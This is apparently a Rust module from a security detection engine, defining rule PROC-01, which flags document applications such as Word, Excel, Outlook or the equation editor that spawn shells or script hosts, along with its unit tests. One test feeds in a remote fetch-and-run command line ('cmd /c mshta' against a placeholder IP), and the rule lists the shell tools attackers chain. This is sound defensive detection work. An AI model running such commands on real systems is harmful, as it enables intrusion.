//! PROC-01: a document application starts an interpreter.
//!
//! Sees: an Office program, PDF reader, mail client or equation editor as the parent (or, through shells, an ancestor at most
//! three levels up) of a shell, script host or system tool that runs what it is given, or of a program in a folder
//! that users may write to.
//! Why: a macro, an exploit or a link in a document is how intrusions begin; documents have no need of interpreters.
//! Benign causes: add-ins and macros of departments, label printing, repairs by the installer from a mail.
//! Sources: Sigma office_susp_child_processes; MITRE ATT&CK T1204.002; the Japanese readers are judgement.

use super::meta::{Key, Level, Meta, Reads, Threshold};
use super::starts::{self, Lineage, command, names, technique_of};
use super::{Cx, Hit, KeyRows, Signal};
use crate::knowledge::programs::{BROWSERS, DOCUMENT_APPLICATIONS, INTERPRETERS, base_name, contains, stem};
use crate::lake::frame::Row;
use crate::rules::paths;
use crate::schema::process as t;

/// See the module.
pub struct Proc01;

const MAX_ANCESTORS: f64 = 3.0;
const QUALITY_ROUTINE: f64 = 0.6;

static META: Meta = Meta {
    id: "PROC-01",
    title: "Document application spawns an interpreter",
    sees: "A document application (Office, PDF reader, mail client, Ichitaro, equation editor) starts a shell, script \
           host or system tool that runs code of others, directly or through shells, or a program from a folder that \
           users may write to.",
    why: "Documents do not need interpreters: macros, exploits and embedded objects do.",
    techniques: &["T1204.002", "T1059", "T1203"],
    stage: "execution",
    family: "process lineage",
    key: Key::Host,
    reads: &[Reads {
        table: &t::TABLE,
        columns: starts::COLUMNS,
    }],
    level: Level::High,
    decisive: false,
    thresholds: &[
        Threshold {
            name: "ancestors",
            value: MAX_ANCESTORS,
            unit: "levels",
            source: "[J] cmd and conhost between document and interpreter",
        },
        Threshold {
            name: "routine_quality",
            value: QUALITY_ROUTINE,
            unit: "quality",
            source: "[J] printing and installers from a mail",
        },
    ],
    benign: &[
        "macros and add-ins of departments",
        "label printers called by a macro",
        "a Windows Installer package opened from a mail",
    ],
};

impl Signal for Proc01 {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn scan(&self, cx: &Cx<'_>, rows: &KeyRows<'_>, hits: &mut Vec<Hit>) {
        let starts = starts::starts(rows.table(&t::TABLE));
        let mut lineage = None;
        for row in starts.iter().copied() {
            let direct = match row.str(t::PARENT_NAME) {
                "" => lineage.get_or_insert_with(|| Lineage::new(&starts)).parent_name(row),
                logged => logged,
            };
            if starts::in_set(DOCUMENT_APPLICATIONS, stem(direct)) {
                if is_child(row) || is_exploit(row, direct) {
                    hits.push(hit(row, stem(direct), &[]));
                }
            } else if passes_on(direct) && starts::is_one_of(row, INTERPRETERS) {
                let lineage = lineage.get_or_insert_with(|| Lineage::new(&starts));
                if let Some((application, between)) = ancestor(cx, lineage, row) {
                    hits.push(hit(row, &application, &between));
                }
            }
        }
    }
}

/// An exploited equation editor runs whatever it was told to: any child but the reporters of its crash counts.
fn is_exploit(row: Row<'_>, parent: &str) -> bool {
    parent == "eqnedt32.exe" && !starts::is_one_of(row, &["dw20", "eqnedt32", "werfault"])
}

/// Whether a program counts when a document starts it.
fn is_child(row: Row<'_>) -> bool {
    if starts::is_one_of(row, INTERPRETERS) {
        return true;
    }
    let image = row.str(t::IMAGE);
    paths::user_writable(image).is_some()
        && !starts::is_one_of(row, BROWSERS)
        && !starts::is_one_of(row, DOCUMENT_APPLICATIONS)
}

/// Shells between a document and what it runs in the end.
fn passes_on(name: &str) -> bool {
    matches!(
        stem(name),
        "cmd" | "conhost" | "powershell" | "pwsh" | "wscript" | "cscript" | "mshta"
    )
}

/// The document application above a row and the shells between.
fn ancestor<'a>(cx: &Cx<'_>, lineage: &Lineage<'a>, row: Row<'a>) -> Option<(String, Vec<Row<'a>>)> {
    let grandparent = base_name(row.str(t::GPARENT_IMAGE)).to_lowercase();
    if contains(DOCUMENT_APPLICATIONS, &grandparent) {
        return Some((stem(&grandparent).to_owned(), Vec::new()));
    }
    let mut between = Vec::new();
    let mut at = row;
    for _ in 0..cx.number(&META, "ancestors") as usize {
        at = lineage.parent(at)?;
        between.push(at);
        let above = lineage.parent_name(at);
        if contains(DOCUMENT_APPLICATIONS, above) {
            return Some((stem(above).to_owned(), between));
        }
        if !passes_on(above) {
            return None;
        }
    }
    None
}

fn hit(row: Row<'_>, application: &str, between: &[Row<'_>]) -> Hit {
    let (image, original) = names(row);
    let program = if contains(INTERPRETERS, &image) || original.is_empty() {
        &image
    } else {
        &original
    };
    let through = match between.first() {
        Some(_) => format!(
            " through {}",
            between
                .iter()
                .rev()
                .map(|r| r.str(t::IMAGE_NAME))
                .collect::<Vec<_>>()
                .join(" and ")
        ),
        None => String::new(),
    };
    let explain = format!("{application} started {image}{through}: {}", command(row));
    let mut hit =
        Hit::at(&META, row, format!("{application}>{program}"), explain).quality(quality(row, application, program));
    let first = if application == "eqnedt32" {
        "T1203"
    } else {
        "T1204.002"
    };
    let mut techniques = vec![first];
    // Only interpreters have a technique of their own; proxies are the business of LOL-01, which looks at arguments.
    let own = technique_of(program, row.str(t::CMDLINE))
        .filter(|id| id.starts_with("T1059") || id.starts_with("T1218") || *id == "T1047");
    techniques.extend(own);
    hit = hit.techniques(&techniques);
    for parent in between {
        hit.add_row(*parent);
    }
    hit.iocs = starts::iocs(row);
    hit
}

fn quality(row: Row<'_>, application: &str, program: &str) -> f64 {
    let line = row.str(t::CMDLINE).to_ascii_lowercase();
    let printing = match program {
        "rundll32" => line.contains("printui") || line.contains("spool"),
        "cmd" => line.contains("\"\" print"),
        "msiexec" => application == "outlook",
        _ => false,
    };
    if printing { QUALITY_ROUTINE } else { 1.0 }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signals::starts::testing::{hits_of, start_as};
    use crate::signals::testing::Sample;

    fn hits(image: &str, parent: &str, line: &str) -> Vec<Hit> {
        hits_of(&Proc01, image, parent, line)
    }

    #[test]
    fn a_document_that_starts_a_shell_is_reported_with_its_command() {
        let found = hits(
            r"C:\Windows\System32\cmd.exe",
            r"C:\Office\EXCEL.EXE",
            "cmd /c mshta http://192.0.2.1/a",
        );
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].key, "excel>cmd");
        assert_eq!(found[0].techniques, ["T1204.002", "T1059.003"]);
        assert!(found[0].explain.contains("mshta http://192.0.2.1/a"));
        assert_eq!(hits(r"C:\x\odd.exe", r"C:\x\EQNEDT32.EXE", "")[0].techniques, ["T1203"]);
    }

    #[test]
    fn printing_browsing_and_embedding_are_ordinary() {
        let office = r"C:\Program Files\Microsoft Office\root\Office16\";
        for (parent, image) in [
            ("WINWORD.EXE", r"C:\Windows\splwow64.exe"),
            ("OUTLOOK.EXE", r"C:\Program Files\Google\Chrome\Application\chrome.exe"),
            (
                "OUTLOOK.EXE",
                r"C:\Users\a\AppData\Local\Microsoft\Teams\current\Teams.exe",
            ),
            (
                "EXCEL.EXE",
                r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
            ),
        ] {
            assert!(
                hits(image, &format!("{office}{parent}"), "").is_empty(),
                "{parent} {image}"
            );
        }
        let printing = hits(
            r"C:\Windows\System32\rundll32.exe",
            &format!("{office}WINWORD.EXE"),
            "rundll32 printui.dll,PrintUIEntry",
        );
        assert_eq!(printing[0].quality, QUALITY_ROUTINE);
    }

    #[test]
    fn the_document_is_found_behind_shells() {
        let mut sample = Sample::default();
        start_as(
            &mut sample,
            "2026-03-02T09:00:00Z",
            (Some(20), r"C:\Windows\System32\cmd.exe"),
            (Some(10), r"C:\o\WINWORD.EXE"),
            "cmd /c powershell",
        );
        start_as(
            &mut sample,
            "2026-03-02T09:00:01Z",
            (Some(30), r"C:\w\powershell.exe"),
            (Some(20), r"C:\Windows\System32\cmd.exe"),
            "powershell -c x",
        );
        start_as(
            &mut sample,
            "2026-03-02T10:00:01Z",
            (Some(40), r"C:\w\powershell.exe"),
            (Some(99), r"C:\Windows\System32\cmd.exe"),
            "powershell -c y",
        );
        let found = sample.hits(&Proc01);
        assert_eq!(
            found.iter().map(|h| h.key.as_str()).collect::<Vec<_>>(),
            ["winword>cmd", "winword>powershell"]
        );
        assert_eq!(found[1].rows.len(), 2);
    }

    #[test]
    fn one_start_seen_by_two_sensors_is_one_hit() {
        let mut sample = Sample::default();
        for (source, line) in [("security", ""), ("sysmon", "cmd /c dir")] {
            sample.row(&t::TABLE, "ws01", "2026-03-02T09:00:00Z", |b| {
                b.text(crate::schema::common::SOURCE, source);
                b.int(t::PID, 7);
                b.text(t::IMAGE_NAME, "cmd.exe");
                b.text(t::PARENT_NAME, "winword.exe");
                b.text(t::CMDLINE, line);
            });
        }
        let found = sample.hits(&Proc01);
        assert_eq!(found.len(), 1);
        assert!(found[0].explain.contains("cmd /c dir"));
    }
}
